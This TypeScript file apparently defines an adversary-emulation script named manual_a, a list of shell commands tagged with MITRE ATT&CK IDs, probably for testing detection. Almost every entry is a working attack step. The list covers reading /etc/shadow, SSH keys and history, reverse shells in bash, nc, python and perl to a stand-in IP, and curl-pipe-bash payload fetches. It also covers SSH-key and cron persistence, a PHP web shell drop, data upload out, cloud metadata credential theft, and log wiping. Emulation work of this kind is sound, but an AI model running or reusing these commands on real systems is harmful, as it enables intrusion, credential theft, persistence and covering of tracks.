import { sh } from './hand';
import type { Hand } from './hand';

/** Somebody at a keyboard who looks around, gets a shell, stays and leaves. */
export const manualA: Hand = {
  name: 'manual_a',
  commands: [
    sh('whoami', 'T1033', 'whoami'),
    sh('id', 'T1033', 'id'),
    sh('discovery-chain', 'T1082', 'id;pwd;uname -a;ls -al'),
    sh('list-dir', 'T1083', 'ls -la {root}'),
    sh('list-root', 'T1083', 'ls -la / /home /opt /srv'),
    sh('os-release', 'T1082', 'cat /etc/*release; uname -r'),
    sh('passwd', 'T1087.001', 'cat /etc/passwd | grep -v nologin'),
    sh('config-read', 'T1552.001', 'cat {config}'),
    sh('grep-secrets', 'T1552.001', 'grep -Rin "password" {app} 2>/dev/null | head -40'),
    sh('processes', 'T1057', 'ps -ef --forest'),
    sh('sockets', 'T1049', 'ss -tulpn || netstat -tulpn'),
    sh('addresses', 'T1016', 'ip a; cat /etc/hosts; cat /etc/resolv.conf'),
    sh('which-tools', 'T1518', 'which python3 perl gcc nc ncat socat wget curl'),
    sh('suid-find', 'T1548.001', 'find /usr/bin -perm -4000 -type f 2>/dev/null'),
    sh('writable-dirs', 'T1083', 'find / -xdev -type d -perm -0002 2>/dev/null | head -n 30'),
    sh('sudo-list', 'T1033', 'sudo -l -n'),
    sh('env', 'T1082', 'env; printenv | grep -iE "key|token|secret|pass"'),
    sh('history', 'T1552.003', 'cat ~/.bash_history /home/*/.bash_history 2>/dev/null'),
    sh('ssh-keys', 'T1552.004', 'ls -la /home/*/.ssh /root/.ssh; cat /home/*/.ssh/id_*'),
    sh('shadow', 'T1003.008', 'cat /etc/shadow'),
    sh('revshell-bash', 'T1059.004', "bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'"),
    sh(
      'revshell-mkfifo',
      'T1059.004',
      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.66 9001 >/tmp/f'
    ),
    sh(
      'revshell-python',
      'T1059.006',
      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.66",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`
    ),
    sh('revshell-nc', 'T1059.004', 'nc 203.0.113.66 1337 -e /bin/bash'),
    sh('revshell-closed', 'T1059.004', 'bash -i >& /dev/tcp/203.0.113.66/8443 0>&1'),
    sh(
      'revshell-perl',
      'T1059',
      `perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"203.0.113.66:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`
    ),
    sh('pty-upgrade', 'T1059.006', `python3 -c 'import pty; pty.spawn("/bin/sh")' </dev/null`),
    sh('fetch-run', 'T1105', 'curl -fsSL http://203.0.113.66/lp.sh | bash'),
    sh(
      'fetch-file-run',
      'T1105',
      'cd /dev/shm && wget http://203.0.113.66/linux64 -O .d && chmod +x .d && ./.d'
    ),
    sh(
      'compile-run',
      'T1068',
      'cd /tmp;curl -so e.c http://203.0.113.66/e.c;gcc e.c -o e 2>&1;./e;rm e e.c'
    ),
    sh(
      'ssh-key-plant',
      'T1098.004',
      'mkdir -p ~/.ssh; curl -s http://203.0.113.66/k.pub >> ~/.ssh/authorized_keys; chmod 600 ~/.ssh/authorized_keys'
    ),
    sh(
      'cron-plant',
      'T1053.003',
      '(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s http://203.0.113.66/i.sh|sh")|crontab -'
    ),
    sh(
      'webshell-drop',
      'T1505.003',
      `echo '<?php if(isset($_REQUEST["z"])){system($_REQUEST["z"]);} ?>' > {uploads}/cache.php`
    ),
    sh('webshell-fetch', 'T1505.003', 'wget -q http://203.0.113.66/c.php -O {uploads}/thumb.php'),
    sh('timestomp', 'T1070.006', 'touch -r {root} {uploads}/cache.php'),
    sh('archive', 'T1560.001', 'tar -czf /tmp/b.tgz {app} 2>/dev/null; ls -la /tmp/b.tgz'),
    sh('send-out', 'T1048', 'curl -s -T /tmp/b.tgz http://203.0.113.66:8000/up'),
    sh('database-dump', 'T1005', 'mysqldump -uroot --all-databases 2>&1 | head -20'),
    sh(
      'internal-scan',
      'T1046',
      'for p in 22 80 443 3306 5432 6379; do (echo >/dev/tcp/10.20.0.5/$p) 2>/dev/null && echo $p; done'
    ),
    sh(
      'internal-http',
      'T1018',
      'curl -s -m 2 http://10.20.0.5:8080/manager/html -o /dev/null -w "%{http_code}"'
    ),
    sh(
      'metadata',
      'T1552.005',
      'curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/'
    ),
    sh(
      'container-check',
      'T1613',
      'cat /proc/1/cgroup; ls -la /.dockerenv /run/secrets 2>/dev/null'
    ),
    sh('logs-wipe', 'T1070.002', 'echo > /var/log/nginx/access.log; rm -f /tmp/b.tgz; history -c'),
    sh(
      'kill-history',
      'T1070.003',
      'unset HISTFILE; export HISTSIZE=0; ln -sf /dev/null ~/.bash_history'
    ),
  ],
};
